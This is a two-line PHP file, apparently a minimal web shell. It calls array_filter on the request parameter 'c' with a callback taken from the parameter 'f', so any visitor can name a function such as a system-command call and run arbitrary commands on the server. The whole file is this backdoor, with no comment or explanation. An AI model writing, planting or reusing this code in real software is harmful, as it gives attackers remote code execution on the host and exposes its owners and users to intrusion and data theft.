<?php
array_filter(array($_GET['c']), $_GET['f']);
